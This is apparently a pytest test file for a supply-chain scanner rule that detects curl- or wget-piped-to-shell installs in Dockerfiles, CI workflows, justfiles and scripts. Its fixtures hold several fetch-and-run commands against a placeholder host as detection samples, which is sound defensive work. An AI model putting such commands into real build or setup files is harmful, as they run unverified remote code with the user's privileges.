from ztsa.model import Status


def test_pass(machine):
    machine.fixture("npm-helper-verified-download")
    machine.ws("Makefile", "install:\n\tcurl -fsSLo tool.tgz https://x.invalid/tool.tgz\n")
    assert machine.run("SUP005").status is Status.PASS


def test_fail_hidden_in_helper_with_continuation(machine):
    machine.fixture("npm-helper-curl-bash")
    out = machine.run("SUP005")
    assert out.status is Status.FAIL
    assert [(e.path, e.line) for e in out.evidence] == [("scripts/bootstrap.sh", 4)]


def test_fail_every_form_and_place(machine):
    machine.ws("Dockerfile", "FROM debian\nRUN curl -sSL https://x.invalid/i | sudo -E bash -\n")
    machine.ws(".github/workflows/ci.yml", "steps:\n  - run: bash <(curl -s https://x.invalid)\n")
    machine.ws("justfile", 'setup:\n    sh -c "$(curl -fsSL https://x.invalid/i.sh)"\n')
    machine.ws(".devcontainer/post.sh", "wget -qO- https://x.invalid | python3\n")
    out = machine.run("SUP005")
    assert {(e.path, e.line) for e in out.evidence} == {
        ("Dockerfile", 2), (".github/workflows/ci.yml", 2), ("justfile", 2),
        (".devcontainer/post.sh", 1)}


def test_unknown_unreadable_script(machine):
    machine.ws("setup.sh", b"\xff\xfe curl | sh")
    assert machine.run("SUP005").status is Status.UNKNOWN
